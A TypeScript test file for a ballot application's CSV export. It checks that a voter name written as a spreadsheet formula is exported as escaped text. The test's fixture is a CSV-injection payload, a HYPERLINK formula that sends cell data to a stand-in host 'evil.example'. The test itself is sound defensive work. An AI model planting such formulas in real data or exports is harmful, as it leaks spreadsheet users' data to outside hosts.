import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { accounts } from "@/db/schema";
import { ballotProject, ballotSettings } from "../../testing/ballots";
import { callerFor, createTestAccount, createTestServices, type TestAccount, type TestServices } from "../../testing/fixtures";

let services: TestServices;
let admin: TestAccount;

beforeAll(async () => {
  services = await createTestServices();
  admin = await createTestAccount(services.deps.db, { role: "admin", regionCode: "beijing" });
});
afterAll(async () => {
  await services?.close();
});

const as = (who: TestAccount) => callerFor(services.deps, who.user);

describe(`ballot CSV export (${process.env.DATABASE_URL ? "postgres" : "pglite"})`, () => {
  it("[EXPORT] a voter named like a spreadsheet formula is written as text", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1] });
    const opened = await as(setup.members[0]![0]!).ballots.open(ballotSettings(setup.projectId, { visibility: "roll_call", rule: "simple_majority" }));
    const voter = setup.members[1]![0]!;
    // Written straight to the table: names stored before names were cleaned at the door.
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await services.deps.db.update(accounts).set({ displayName: formula }).where(eq(accounts.id, voter.account.id));
    await as(voter).ballots.castVote({ ballotId: opened.id, choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })) });
    await as(admin).ballots.close({ ballotId: opened.id });

    const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
    const votes = csv.split("\r\n").filter((line) => line.startsWith("vote,"));
    expect(votes).toHaveLength(2);
    for (const line of votes) {
      expect(line).toContain(`,${voter.account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",approve,`);
      // No cell of the line starts a formula once its quotes are read.
      expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
    }
  });
});
